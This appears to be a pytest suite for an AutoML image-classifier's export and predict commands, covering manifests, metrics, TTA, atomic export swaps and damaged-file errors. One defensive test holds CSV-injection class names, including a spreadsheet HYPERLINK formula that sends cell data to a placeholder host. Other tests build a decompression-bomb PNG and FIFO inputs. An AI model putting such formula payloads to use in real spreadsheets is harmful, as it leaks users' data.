"""`best --export` and `predict`: the export contract and the predict round trip."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import optuna
import pytest
import torch
import yaml
from safetensors.torch import load_file, save_file
from typer.testing import CliRunner

import automl_clf
from automl_clf.cli import app
from automl_clf.data.dataset import SplitArrays, load_dataset
from automl_clf.data.preprocess import Preprocessing
from automl_clf.final.calibration import rescale
from automl_clf.final.folder import (
    STAGING,
    check_replaceable,
    recover_interrupted,
    sibling,
    staged_export,
)
from automl_clf.final.predictor import BATCH_SIZE, predict_files
from automl_clf.final.retrain import choose_members, retrain
from automl_clf.final.tta import evaluate_tta, tta_views
from automl_clf.models.factory import build_model
from automl_clf.search.storage import trial_artifacts_dir
from automl_clf.spec.config import TrialConfig
from automl_clf.spec.describe import describe_space
from automl_clf.train.trainer import evaluate
from automl_clf.train.weights import (
    WEIGHTS_ATTR,
    WEIGHTS_FILE,
    load_weights,
    save_weights,
    weights_problem,
)
from tests.conftest import (
    REPO,
    Ensembled,
    Exported,
    fails_if_blocked,
    tiny_spec,
    write_png_bomb,
    write_spec,
)
from tests.hub import with_stand_ins

runner = CliRunner()


@pytest.fixture
def export(exported: Exported) -> Path:
    return exported.folder


def read_test_predictions(export: Path) -> list[dict[str, str]]:
    with (export / "report" / "test_predictions.csv").open() as handle:
        return list(csv.DictReader(handle))


def test_export_directory_contract(export: Path) -> None:
    for name in (
        "model.safetensors",
        "model.json",
        "model.pt",
        "model.onnx",
        "spec.yaml",
        "report/metrics.json",
        "report/index.html",
        "report/report.md",
        "report/confusion_matrix.png",
    ):
        assert (export / name).is_file(), name
    manifest = json.loads((export / "model.json").read_text())
    assert manifest["classes"] == ["0", "1", "7"]
    assert manifest["preprocessing"]["decoding"]["image_size"] == 8
    assert "torch" in manifest["versions"] and "onnxruntime" in manifest["versions"]
    assert manifest["data_fingerprint"]["n_files"] == 90
    assert "augmentation" in manifest  # albumentations' own serialisation, or None for none
    if manifest["config"]["augment"]["policy"] != "none":
        assert manifest["augmentation"]["albumentations"]["transform"]["transforms"]
        assert manifest["augmentation"]["executor"] == "batched"
    assert set(manifest["formats"]) == {"torchscript", "onnx"}
    metrics = json.loads((export / "report" / "metrics.json").read_text())
    for key in (
        "accuracy",
        "balanced_accuracy",
        "macro_f1",
        "classes",
        "confusion_matrix",
        "per_class",
    ):
        assert key in metrics
    matrix = np.asarray(metrics["confusion_matrix"])
    assert matrix.shape == (3, 3)
    assert matrix.sum() == metrics["n_images"] == len(read_test_predictions(export))
    assert np.trace(matrix) / matrix.sum() == pytest.approx(metrics["accuracy"])
    assert set(metrics["per_class"]["7"]) == {"precision", "recall", "f1", "support"}


def test_predict_reproduces_the_test_predictions(export: Path) -> None:
    rows = read_test_predictions(export)
    paths = [row["path"] for row in rows]
    result = runner.invoke(app, ["predict", str(export), *paths])
    assert result.exit_code == 0, result.output
    predicted = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [p["path"] for p in predicted] == paths
    for expected, got in zip(rows, predicted, strict=True):
        assert got["predicted"] == expected["predicted"]
        assert float(got["probability"]) == pytest.approx(float(expected["probability"]), abs=1e-5)
    metrics = json.loads((export / "report" / "metrics.json").read_text())
    classes = metrics["classes"]
    matrix = np.zeros((3, 3), dtype=int)
    for expected, got in zip(rows, predicted, strict=True):
        matrix[classes.index(expected["true"]), classes.index(got["predicted"])] += 1
    assert matrix.tolist() == metrics["confusion_matrix"]


def test_python_api_matches_the_cli(export: Path) -> None:
    rows = read_test_predictions(export)[:10]
    predictor = automl_clf.load(export)
    assert predictor.classes_ == ["0", "1", "7"]
    assert predictor.predict([r["path"] for r in rows]) == [r["predicted"] for r in rows]
    probabilities = predictor.predict_proba([r["path"] for r in rows])
    assert probabilities.shape == (10, 3)
    assert np.allclose(probabilities.sum(axis=1), 1.0)


def test_predict_walks_folders_and_reports_bad_files(export: Path, tmp_path: Path) -> None:
    rows = read_test_predictions(export)[:3]
    folder = tmp_path / "inbox" / "nested"
    folder.mkdir(parents=True)
    for i, row in enumerate(rows):
        shutil.copy(row["path"], folder / f"{i}.png")
    (folder / "broken.png").write_bytes(b"\x89PNG not really")
    result = runner.invoke(
        app, ["predict", str(export), str(tmp_path / "inbox"), "--format", "json", "--top-k", "2"]
    )
    assert result.exit_code == 0, result.output
    records = json.loads(result.stdout)
    assert len(records) == 4
    broken = next(r for r in records if r["path"].endswith("broken.png"))
    assert broken["predicted"] is None and "cannot read image" in broken["error"]
    good = [r for r in records if r["error"] is None]
    assert [r["predicted"] for r in good] == [row["predicted"] for row in rows]
    assert all(len(r["top_k"]) == 2 for r in good)


def test_predict_refuses_a_folder_that_is_not_an_export(tmp_path: Path) -> None:
    result = runner.invoke(app, ["predict", str(tmp_path), str(tmp_path)])
    assert result.exit_code == 2
    assert "is not an autoclf export" in result.output


def test_best_without_a_study_says_how_to_make_one(spec_file: Path) -> None:
    result = runner.invoke(app, ["best", str(spec_file)])
    assert result.exit_code == 1
    assert "run `autoclf search SPEC` first" in result.output


def test_several_seeds_export_the_best_on_validation(export: Path) -> None:
    metrics = json.loads((export / "report" / "metrics.json").read_text())
    runs = metrics["seeds"]["runs"]
    assert [run["seed"] for run in runs] == [0, 1]
    best = min(runs, key=lambda run: run["log_loss"])  # the tiny spec's objective is val_loss
    assert metrics["seeds"]["chosen"] == best["seed"]
    assert json.loads((export / "model.json").read_text())["seed"] == best["seed"]
    spread = metrics["seeds"]["val"]["accuracy"]
    assert spread["min"] <= spread["mean"] <= spread["max"]


def test_tta_is_reported_beside_the_plain_result(export: Path) -> None:
    metrics = json.loads((export / "report" / "metrics.json").read_text())
    tta = metrics["tta"]
    assert tta["views"] == ["hflip", "crops"]
    assert "with TTA (hflip + crops)" in (export / "report" / "report.md").read_text()
    # Recomputed here from the test images alone: the exported model's softmax averaged over
    # each image, its 4 corner and centre crops of 7/8 of the side resized back, and mirrors.
    predictor = automl_clf.load(export)
    rows = read_test_predictions(export)
    pixels = np.stack([predictor.load(row["path"]) for row in rows])
    labels = np.array([predictor.classes_.index(row["true"]) for row in rows])
    x = predictor.manifest_.preprocessing.to_tensor(pixels)
    side = x.shape[-1]
    crop = round(side * 7 / 8)
    corners = [(0, 0), (0, side - crop), (side - crop, 0), (side - crop, side - crop)]
    corners.append(((side - crop) // 2, (side - crop) // 2))
    views = [x] + [
        torch.nn.functional.interpolate(
            x[:, :, top : top + crop, left : left + crop], size=(side, side), mode="bilinear"
        )
        for top, left in corners
    ]
    views += [view.flip(-1) for view in views]
    with torch.no_grad():
        # calibrated, as the export serves it
        probabilities = torch.stack([predictor.served_(v).softmax(1) for v in views]).mean(0)
    picked = probabilities.numpy()[np.arange(len(labels)), labels]
    assert tta["log_loss"] == pytest.approx(float(-np.log(picked).mean()), rel=1e-5)
    assert tta["accuracy"] == pytest.approx(
        float((probabilities.argmax(1).numpy() == labels).mean())
    )
    assert tta["log_loss"] != pytest.approx(metrics["log_loss"])  # not the plain result again


def test_tta_views_and_their_average(export: Path) -> None:
    views = tta_views(torch.arange(2 * 64.0).reshape(2, 1, 8, 8), ["hflip", "crops"])
    assert len(views) == 12 and all(v.shape == (2, 1, 8, 8) for v in views)
    assert torch.equal(views[6], torch.flip(views[0], dims=[-1]))  # mirrors follow the plain six
    predictor = automl_clf.load(export)
    rows = read_test_predictions(export)
    pixels = np.stack([predictor.load(row["path"]) for row in rows])
    labels = np.array([predictor.classes_.index(r["true"]) for r in rows])
    data = SplitArrays(pixels, labels, tuple(Path(r["path"]) for r in rows))
    pre = predictor.manifest_.preprocessing
    plain = evaluate_tta(predictor.served_, data, pre, torch.device("cpu"), views=())
    assert np.allclose(plain.probabilities, predictor.predict_proba_pixels(pixels), atol=1e-6)


def test_train_val_retrain_has_one_seed_and_no_validation(
    exported: Exported, tmp_path: Path
) -> None:
    raw = yaml.safe_load(exported.spec.read_text())
    raw["final"] = {"train_on": "train+val"}  # the defaults: balanced weighting, seed 0
    spec = automl_clf.load_spec(write_spec(exported.spec.with_name("trainval.yaml"), raw))
    report = automl_clf.export_best(spec, tmp_path / "trainval")
    manifest = json.loads((tmp_path / "trainval" / "model.json").read_text())
    assert manifest["train_on"] == "train+val" and manifest["seed"] == 0
    # the retrain saw val: its temperature comes from its trial's held-out predictions
    assert "inherits its temperature" in manifest["calibration"]["fitted_on"]
    assert manifest["ood"]["fitted_on"] == manifest["calibration"]["fitted_on"]
    metrics = json.loads((report / "metrics.json").read_text())
    assert metrics["seeds"]["runs"] == [{"seed": 0}]  # val was trained on: nothing to compare
    assert "tta" not in metrics


def test_several_seeds_need_a_held_out_validation_split(tmp_path: Path, digits_root: Path) -> None:
    raw = tiny_spec(digits_root, tmp_path, final={"seeds": 3})
    with pytest.raises(automl_clf.SpecError, match="set train_on: train, or seeds: 1"):
        automl_clf.load_spec(write_spec(tmp_path / "seeds.yaml", raw))


def test_predict_paths_reads_folders_and_reports_bad_files(export: Path, tmp_path: Path) -> None:
    rows = read_test_predictions(export)[:2]
    for i, row in enumerate(rows):
        shutil.copy(row["path"], tmp_path / f"{i}.png")
    (tmp_path / "empty.png").write_bytes(b"")
    results = automl_clf.load(export).predict_paths([tmp_path, tmp_path / "missing.png"])
    by_name = {r.path.name: r for r in results}
    assert [by_name[f"{i}.png"].predicted for i in range(2)] == [r["predicted"] for r in rows]
    assert by_name["empty.png"].error and by_name["missing.png"].error
    assert by_name["missing.png"].predicted is None


def test_predict_goes_batch_by_batch(export: Path) -> None:
    files = [Path(row["path"]) for row in read_test_predictions(export)]
    many = files * (BATCH_SIZE // len(files) + 1)
    batches: list[int] = []
    results = predict_files(automl_clf.load(export), many, on_batch=batches.append)
    assert batches == [BATCH_SIZE, len(many) - BATCH_SIZE]
    assert [r.predicted for r in results[: len(files)]] == [
        r.predicted for r in results[-len(files) :]
    ]


def test_predict_writes_a_file_and_checks_top_k(export: Path, tmp_path: Path) -> None:
    path = read_test_predictions(export)[0]["path"]
    out = tmp_path / "predictions.json"
    result = runner.invoke(app, ["predict", str(export), path, "--format", "json", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert json.loads(out.read_text())[0]["path"] == path
    result = runner.invoke(app, ["predict", str(export), path, "--top-k", "4"])
    assert result.exit_code == 2
    assert "--top-k 4 is more than the model's 3 classes" in result.output


def test_predict_never_writes_into_the_export_it_reads(export: Path, tmp_path: Path) -> None:
    copy = shutil.copytree(export, tmp_path / "export")  # not the shared one, should it fail
    shutil.rmtree(copy / "visualize", ignore_errors=True)  # another test's figures, if any
    image = read_test_predictions(copy)[0]["path"]
    for target in (copy / "model.json", copy / "report" / "new.csv"):
        result = runner.invoke(app, ["predict", str(copy), image, "-o", str(target)])
        assert result.exit_code == 2, result.output
        assert f"--output {target} is inside the export folder {copy}" in result.output
    check_replaceable(copy)  # exactly what the export wrote, model.json included
    assert automl_clf.load(copy).classes_  # and the next predict reads it


# Class names a spreadsheet would run as formulas, from a CSV manifest (OWASP's CSV injection)
FORMULA_LABELS = ['=HYPERLINK("http://x.test/"&A1,"click")', "+1", "@SUM(A1)"]


@pytest.fixture(scope="module")
def formula_export(tmp_path_factory: pytest.TempPathFactory, digits_root: Path) -> Path:
    """An export whose three classes are named FORMULA_LABELS (digits 0, 1, 7)."""
    folder = tmp_path_factory.mktemp("formulas")
    with (folder / "labels.csv").open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["path", "label"])
        for digit, label in zip(("0", "1", "7"), FORMULA_LABELS, strict=True):
            for image in sorted((digits_root / digit).glob("*.png")):
                writer.writerow([str(image), label])
    raw = tiny_spec(digits_root, folder, study={"n_trials": 1})
    raw["data"] = {**raw["data"], "root": None, "manifest": str(folder / "labels.csv")}
    spec = write_spec(folder / "spec.yaml", raw)
    result = runner.invoke(app, ["run", str(spec), "--export", str(folder / "export")])
    assert result.exit_code == 0, result.output
    return folder / "export"


@pytest.mark.slow
def test_csv_outputs_neutralise_formula_labels_and_json_keeps_them_exact(
    formula_export: Path,
) -> None:
    rows = read_test_predictions(formula_export)
    written = {row[column] for row in rows for column in ("true", "predicted")}
    assert written <= {"'" + label for label in FORMULA_LABELS} and len(written) > 1
    image = rows[0]["path"]
    result = runner.invoke(app, ["predict", str(formula_export), image, "--top-k", "2"])
    assert result.exit_code == 0, result.output
    row = next(csv.DictReader(io.StringIO(result.stdout)))
    for column in ("predicted", "top_class", "top_k"):
        assert row[column][0] == "'" and row[column][1:2] in ("=", "+", "@"), row
    result = runner.invoke(app, ["predict", str(formula_export), image, "--format", "json"])
    assert json.loads(result.stdout)[0]["top_class"] in FORMULA_LABELS  # exact, no quote


def test_predict_reports_a_bomb_and_a_fifo_and_predicts_the_rest(
    export: Path, tmp_path: Path
) -> None:
    good = read_test_predictions(export)[0]
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    shutil.copy(good["path"], inbox / "good.png")
    write_png_bomb(inbox / "bomb.png")  # 15000 x 15000 px in ~30 KB
    os.mkfifo(inbox / "pipe.png")  # found by walking the folder
    os.mkfifo(tmp_path / "named.png")  # named on the command line
    with fails_if_blocked():
        result = runner.invoke(
            app, ["predict", str(export), str(inbox), str(tmp_path / "named.png")]
        )
    assert result.exit_code == 0, result.output
    rows = {Path(r["path"]).name: r for r in csv.DictReader(io.StringIO(result.stdout))}
    assert set(rows) == {"good.png", "bomb.png", "pipe.png", "named.png"}
    assert rows["good.png"]["predicted"] == good["predicted"] and not rows["good.png"]["error"]
    assert "too large: 225,000,000 pixels" in rows["bomb.png"]["error"]
    for name in ("pipe.png", "named.png"):
        assert rows[name]["error"] == "cannot read image: not a regular file (a FIFO)"
        assert rows[name]["predicted"] == ""
    assert "3 of 4 file(s) could not be read" in result.stderr


def test_predict_with_a_mistyped_path_is_one_line_and_exit_2(export: Path, tmp_path: Path) -> None:
    good = read_test_predictions(export)[0]["path"]
    result = runner.invoke(app, ["predict", str(export), good, str(tmp_path / "inbx")])
    assert result.exit_code == 2
    assert result.stdout == ""  # nothing predicted: the command line is wrong
    assert result.stderr.strip().splitlines() == [
        f"error: no such file or folder: {tmp_path / 'inbx'}; check the path (predict reads "
        "image files and folders)"
    ]


SHIPPED_SPECS = sorted((REPO / "specs").glob("*.yaml"))


def export_shipped_spec(path: Path, folder: Path, data: Path, pretrained: Path | None) -> Path:
    """Search one trial of a spec in specs/ and export it, as its header says, on tiny data.

    Only what makes it quick is changed: the data (a few real digits), the image size, the
    epochs and the number of trials, and real pretrained timm models become their test_*
    stand-ins (tests/hub.py; the caller provides their cache); the study, model, train, augment
    and final sections are the shipped ones. A multi-objective spec exports `--trial 0`, as its
    header documents.
    """
    raw = yaml.safe_load(path.read_text())
    if raw["model"].get("pretrained") is True:
        raw = with_stand_ins(raw)
    raw["data"]["root"] = str(data)
    raw["data"]["image_size"] = 16
    raw["study"]["n_trials"] = 1
    raw["train"]["epochs"] = 2
    if pretrained is not None:
        raw["model"]["pretrained"] = str(pretrained)
    spec = write_spec(folder / path.name, raw)
    searched = runner.invoke(app, ["search", str(spec)])
    assert searched.exit_code == 0, searched.output
    pick = ["--trial", "0"] if isinstance(raw["study"].get("objective"), list) else []
    out = folder / "export"
    result = runner.invoke(app, ["best", str(spec), "--export", str(out), *pick])
    assert result.exit_code == 0, result.output
    return out


@pytest.fixture(scope="module")
def pretrain_export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """specs/pretrain.yaml's export (on the digits 0–4), the weights specs/transfer.yaml reads."""
    from automl_clf.datasets import write_digits

    folder = tmp_path_factory.mktemp("pretrain")
    data = write_digits(folder / "digits-0-4", classes=[0, 1, 2, 3, 4], per_class=14)
    return export_shipped_spec(REPO / "specs" / "pretrain.yaml", folder, data, None)


@pytest.mark.slow
@pytest.mark.parametrize("path", SHIPPED_SPECS, ids=lambda p: p.name)
def test_every_shipped_spec_exports(
    path: Path, request: pytest.FixtureRequest, digits_root: Path, tmp_path: Path
) -> None:
    if path.name == "pretrain.yaml":
        out = request.getfixturevalue("pretrain_export")
    elif path.name == "transfer.yaml":  # fine-tunes pretrain's export, as its header says
        from automl_clf.datasets import write_digits

        data = write_digits(tmp_path / "digits-5-9", classes=[5, 6, 7, 8, 9], per_class=14)
        weights = request.getfixturevalue("pretrain_export") / "model.safetensors"
        out = export_shipped_spec(path, tmp_path, data, weights)
    else:
        if path.name == "photos.yaml":  # timm's weights: stand-ins from a local hub cache
            request.getfixturevalue("offline_hub")
        out = export_shipped_spec(path, tmp_path, digits_root, None)
    exported = automl_clf.load_spec(out / "spec.yaml")  # valid, and nothing left to search
    assert describe_space(exported).params == []
    assert automl_clf.load(out).classes_


def write_tiny_export(out: Path, text: str) -> None:
    """An export folder as final/folder.py makes one (its marker included), without a model."""
    with staged_export(out) as staging:
        (staging / "model.json").write_text(text)
        (staging / "report").mkdir()
        (staging / "report" / "report.md").write_text(text)


def die_inside_an_export(out: Path, steps: str) -> None:
    """Run `steps` in a real Python process that then kills itself with SIGKILL (kill -9)."""
    script = (
        "import os, signal, sys\nfrom pathlib import Path\n"
        "from automl_clf.final.folder import REPLACED, sibling, staged_export\n"
        f"out = Path({str(out)!r})\n{steps}\n"
        "    os.kill(os.getpid(), signal.SIGKILL)\n"
    )
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True)
    assert done.returncode == -signal.SIGKILL, done.stderr


def siblings(out: Path) -> list[str]:
    return sorted(p.name for p in out.parent.iterdir() if p.name != out.name)


def test_best_export_refuses_a_folder_autoclf_did_not_write(
    exported: Exported, tmp_path: Path
) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "model.json").write_text('{"my": "own file"}')
    (mine / "thesis.tex").write_text("years of work")
    result = runner.invoke(app, ["best", str(exported.spec), "--export", str(mine)])
    assert result.exit_code == 2
    assert "is not an autoclf export" in result.output and "left untouched" in result.output
    assert sorted(p.name for p in mine.iterdir()) == ["model.json", "thesis.tex"]
    assert (mine / "thesis.tex").read_text() == "years of work"


def test_best_export_inside_the_data_folder_is_refused_before_the_retrain(
    exported: Exported, tmp_path: Path, digits_root: Path
) -> None:
    data = shutil.copytree(digits_root, tmp_path / "data")  # the same images: the same study
    result = runner.invoke(
        app,
        ["best", str(exported.spec), "--set", f"data.root={data}", "--export", str(data / "x")],
    )
    assert result.exit_code == 2, result.output
    assert f"--export {data / 'x'} is inside the data folder {data}" in result.output
    assert "retraining" not in result.output
    assert sorted(p.name for p in data.iterdir()) == ["0", "1", "7"]


def test_an_export_with_anything_added_or_changed_is_not_replaced(
    exported: Exported, tmp_path: Path
) -> None:
    copy = shutil.copytree(exported.folder, tmp_path / "export")
    shutil.rmtree(copy / "visualize", ignore_errors=True)  # another test's figures, if any
    check_replaceable(copy)  # an export as autoclf wrote it may be replaced
    (copy / "notes.txt").write_text("mine")
    with pytest.raises(
        automl_clf.ExportError, match=r"holds what no autoclf export holds \(notes"
    ):
        check_replaceable(copy)
    (copy / "notes.txt").unlink()
    (copy / "visualize" / "0003").mkdir(parents=True)
    (copy / "visualize" / "0003" / "filters.png").write_bytes(b"mine")
    with pytest.raises(automl_clf.ExportError, match=r"holds \(visualize/\), so"):
        check_replaceable(copy)
    shutil.rmtree(copy / "visualize")
    (copy / "report" / "report.md").write_text("my edits")
    with pytest.raises(automl_clf.ExportError, match=r"changed since it was written \(report/"):
        check_replaceable(copy)
    (copy / "report" / "report.md").unlink()
    (copy / "report" / "report.md").symlink_to(Path.home())
    with pytest.raises(automl_clf.ExportError, match="holds what no autoclf export holds"):
        check_replaceable(copy)
    assert (copy / "model.safetensors").is_file()  # nothing was deleted by any refusal


def test_best_export_replaces_its_own_earlier_export(exported: Exported, tmp_path: Path) -> None:
    copy = shutil.copytree(exported.folder, tmp_path / "export")
    shutil.rmtree(copy / "visualize", ignore_errors=True)
    old = (copy / "autoclf_export.json").read_text()
    result = runner.invoke(app, ["best", str(exported.spec), "--export", str(copy)])
    assert result.exit_code == 0, result.output
    assert (copy / "autoclf_export.json").read_text() != old  # a new export, whole
    check_replaceable(copy)
    assert siblings(copy) == []  # no staging folder left beside it


def test_an_export_killed_before_the_swap_leaves_the_old_one_whole(tmp_path: Path) -> None:
    out = tmp_path / "export"
    write_tiny_export(out, "old")
    die_inside_an_export(
        out, "with staged_export(out) as staging:\n    (staging / 'model.json').write_text('new')"
    )
    assert (out / "model.json").read_text() == "old"
    check_replaceable(out)  # still whole, so the rerun may replace it
    assert len(siblings(out)) == 1  # the dead export's staging folder
    write_tiny_export(out, "rerun")
    assert (out / "model.json").read_text() == "rerun"
    assert siblings(out) == []  # the dead export's staging folder is cleaned up


def test_an_export_killed_mid_swap_is_undone_by_the_next_one(tmp_path: Path) -> None:
    out = tmp_path / "export"
    write_tiny_export(out, "old")
    # Where the atomic exchange is missing, the swap sets the old export aside first; die there.
    die_inside_an_export(
        out,
        "with staged_export(out) as staging:\n"
        "    (staging / 'model.json').write_text('new')\n"
        "    out.rename(sibling(out, REPLACED, os.getpid()))",
    )
    assert not out.exists()
    recover_interrupted(out)  # what the next export does first
    assert (out / "model.json").read_text() == "old"
    write_tiny_export(out, "rerun")
    assert (out / "model.json").read_text() == "rerun" and siblings(out) == []


def test_staging_folders_of_running_exports_are_left_alone(tmp_path: Path) -> None:
    out = tmp_path / "export"
    running = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        busy = sibling(out, STAGING, running.pid)
        busy.mkdir()
        other_host = tmp_path / ".export.partial-elsewhere-1"
        other_host.mkdir()
        write_tiny_export(out, "new")
        assert busy.is_dir() and other_host.is_dir()
    finally:
        running.kill()
        running.wait()
    write_tiny_export(out, "newer")
    assert not busy.exists() and other_host.is_dir()


def test_the_export_records_the_class_weighting_that_ran(exported: Exported) -> None:
    spec = automl_clf.load_spec(exported.spec)
    assert spec.study.storage is not None and spec.study.name is not None
    manifest = json.loads((exported.folder / "model.json").read_text())
    trial = optuna.load_study(study_name=spec.study.name, storage=spec.study.storage).trials[
        manifest["trial"]
    ]
    assert trial.user_attrs["config"]["train"]["class_weighting"] == "none"  # as searched
    assert manifest["config"]["train"]["class_weighting"] == "balanced"  # final.class_weighting
    exported_spec = yaml.safe_load((exported.folder / "spec.yaml").read_text())
    assert exported_spec["train"]["class_weighting"] == "balanced"
    line = f"| class weighting | balanced (final.class\\_weighting; trial #{trial.number} trained"
    assert line in (exported.folder / "report" / "report.md").read_text()


def test_final_class_weighting_searched_keeps_the_trials(
    exported: Exported, tmp_path: Path
) -> None:
    raw = yaml.safe_load(exported.spec.read_text())
    raw["final"] = {"train_on": "train+val", "class_weighting": "searched"}
    spec = automl_clf.load_spec(write_spec(exported.spec.with_name("searched.yaml"), raw))
    report = automl_clf.export_best(spec, tmp_path / "searched")
    manifest = json.loads((tmp_path / "searched" / "model.json").read_text())
    assert manifest["config"]["train"]["class_weighting"] == "none"
    assert "| class weighting | none |" in (report / "report.md").read_text()


def edit_manifest(folder: Path, **changes: Any) -> None:
    """Set dotted keys of the export's model.json, e.g. `{"config.data.channels": 3}`."""
    path = folder / "model.json"
    manifest = json.loads(path.read_text())
    for dotted, value in changes.items():
        *parents, key = dotted.split(".")
        target = manifest
        for part in parents:
            target = target[part]
        target[key] = value
    path.write_text(json.dumps(manifest))


def with_size(folder: Path, size: int) -> None:
    manifest = json.loads((folder / "model.json").read_text())
    channels = manifest["input_shape"][0]
    edit_manifest(
        folder,
        **{
            "input_shape": [channels, size, size],
            "preprocessing.decoding.image_size": size,
            "preprocessing_steps.resize.width": size,
            "config.data.image_size": size,
        },
    )


def with_rgb(folder: Path) -> None:
    manifest = json.loads((folder / "model.json").read_text())
    size = manifest["input_shape"][1]
    edit_manifest(
        folder,
        **{
            "input_shape": [3, size, size],
            "preprocessing.decoding.channels": 3,
            "preprocessing.mean": [0.5] * 3,
            "preprocessing.std": [0.2] * 3,
            "preprocessing_steps.decode.mode": "RGB",
            "preprocessing_steps.tensor.mean": [0.5] * 3,
            "preprocessing_steps.tensor.std": [0.2] * 3,
            "config.data.channels": 3,
        },
    )


def reshape_a_tensor(folder: Path) -> None:
    tensors = load_file(folder / "model.safetensors")
    key = next(k for k, v in tensors.items() if v.ndim > 1)
    tensors[key] = tensors[key].reshape(-1).contiguous()
    save_file(tensors, folder / "model.safetensors")


def truncate(path: Path) -> None:
    path.write_bytes(path.read_bytes()[: path.stat().st_size // 2])


DAMAGES = {  # how an export is damaged -> (the damage, the file named, what the line says)
    "one class more": (
        lambda f: edit_manifest(f, classes=["0", "1", "7", "9"]),
        "model.safetensors",
        "(4 classes, 1 channel(s), 8 px) needs",
    ),
    "three channels": (with_rgb, "model.safetensors", "needs"),
    "another image size": (lambda f: with_size(f, 12), "model.safetensors", "12 px) needs"),
    "a terabyte image size": (lambda f: with_size(f, 10**7), "model.json", "less than or equal"),
    "preprocessing steps alone": (
        lambda f: edit_manifest(f, **{"preprocessing_steps.resize.filter": "nearest"}),
        "model.json",
        "preprocessing_steps: must describe `preprocessing`",
    ),
    "input shape alone": (
        lambda f: edit_manifest(f, input_shape=[1, 9, 9]),
        "model.json",
        "input_shape: must be (1, 8, 8)",
    ),
    "not UTF-8": (
        lambda f: (f / "model.json").write_bytes(b'{"classes": "\xff\xfe"}'),
        "model.json",
        "not UTF-8",
    ),
    "not JSON": (lambda f: (f / "model.json").write_text("{"), "model.json", "Invalid JSON"),
    "truncated weights": (
        lambda f: truncate(f / "model.safetensors"),
        "model.safetensors",
        "not a readable safetensors file",
    ),
    "random weights file": (
        lambda f: (f / "model.safetensors").write_bytes(np.random.default_rng(0).bytes(4096)),
        "model.safetensors",
        "not a readable safetensors file",
    ),
    "a reshaped tensor": (reshape_a_tensor, "model.safetensors", "has shape"),
}


@pytest.mark.parametrize("damage", DAMAGES)
def test_a_damaged_export_is_one_line_naming_the_file(
    damage: str, export: Path, tmp_path: Path
) -> None:
    spoil, file, says = DAMAGES[damage]
    copy = shutil.copytree(export, tmp_path / "export")
    spoil(copy)
    image = read_test_predictions(export)[0]["path"]
    result = runner.invoke(app, ["predict", str(copy), image])
    assert result.exit_code == 2, result.output
    assert result.output.startswith(f"error: {copy / file}") and says in result.output
    assert len(result.output.strip().splitlines()) == 1, result.output
    with pytest.raises(automl_clf.ExportError, match="damaged or was edited"):
        automl_clf.load(copy)


# --- the trial's own weights (final.retrain), ensembles (final.ensemble), latency -------------


def open_study(spec_path: Path) -> tuple[automl_clf.Spec, optuna.Study]:
    spec = automl_clf.load_spec(spec_path)
    assert spec.study.storage is not None and spec.study.name is not None
    return spec, optuna.load_study(study_name=spec.study.name, storage=spec.study.storage)


def one_line(text: str) -> str:
    return " ".join(text.split())  # rich wraps the CLI's lines at the terminal width


def test_weights_are_written_whole_and_checked_on_reading(tmp_path: Path) -> None:
    model = torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2))
    record = save_weights(model, tmp_path / "trial" / WEIGHTS_FILE)
    assert record["file"] == str(tmp_path / "trial" / WEIGHTS_FILE)
    assert [p.name for p in (tmp_path / "trial").iterdir()] == [WEIGHTS_FILE]  # no temp file
    twin = torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2))
    load_weights(twin, record)
    for name, tensor in model.state_dict().items():
        assert torch.equal(twin.state_dict()[name], tensor), name
    assert weights_problem(None) is not None and weights_problem(record) is None
    path = Path(record["file"])
    path.write_bytes(path.read_bytes() + b" ")
    with pytest.raises(automl_clf.StudyError, match=r"changed since it finished.*retrain: always"):
        load_weights(twin, record, trial=3)
    path.unlink()
    with pytest.raises(automl_clf.StudyError, match=r"trial #3 .* are gone .*retrain: always"):
        load_weights(twin, record, trial=3)


def test_every_complete_trial_keeps_its_best_epoch_weights(exported: Exported) -> None:
    spec, study = open_study(exported.spec)
    complete = study.get_trials(states=(optuna.trial.TrialState.COMPLETE,))
    assert complete
    for trial in complete:
        record = trial.user_attrs[WEIGHTS_ATTR]
        assert spec.study.artifacts is not None
        assert Path(record["file"]) == trial_artifacts_dir(spec.study.artifacts, trial.number) / (
            WEIGHTS_FILE
        )
        assert weights_problem(record) is None  # there, and the file the trial recorded


def test_retrain_never_exports_the_trials_own_best_epoch(
    exported: Exported, tmp_path: Path
) -> None:
    raw = yaml.safe_load(exported.spec.read_text())
    raw["final"] = {"retrain": "never"}  # train_on stays the default, train+val: not used
    spec = automl_clf.load_spec(write_spec(exported.spec.with_name("never.yaml"), raw))
    _, study = open_study(exported.spec)
    report = automl_clf.export_best(spec, tmp_path / "never")
    manifest = json.loads((tmp_path / "never" / "model.json").read_text())
    trial = study.best_trial
    assert manifest["trial"] == trial.number and manifest["retrained"] is False
    assert (
        manifest["train_on"] == "train"
        and manifest["trained_epochs"] == (trial.user_attrs["best_epoch"])
    )
    assert manifest["config"] == trial.user_attrs["config"]  # the trial's, as it ran
    saved = load_file(trial.user_attrs[WEIGHTS_ATTR]["file"])
    exported_weights = load_file(tmp_path / "never" / "model.safetensors")
    assert saved.keys() == exported_weights.keys()
    assert all(torch.equal(saved[k], exported_weights[k]) for k in saved)
    # the exported model scores on val exactly what the trial's best epoch scored there
    predictor = automl_clf.load(tmp_path / "never")
    pre = predictor.manifest_.preprocessing
    assert pre.model_dump(mode="json") == trial.user_attrs["preprocessing"]
    val = load_dataset(spec.data).arrays(pre.decoding)["val"]
    result = evaluate(predictor.model_, val, pre, torch.device("cpu"))
    assert result.loss == pytest.approx(trial.user_attrs["val_loss"], rel=1e-5)
    assert result.accuracy == pytest.approx(trial.user_attrs["val_accuracy"])
    text = (report / "report.md").read_text()
    assert f"trial #{trial.number}'s best epoch (not retrained)" in text
    assert "final.class\\_weighting balanced did not apply" in text
    page = (report / "index.html").read_text()
    assert html.escape(f"Trial #{trial.number}'s best epoch") in page
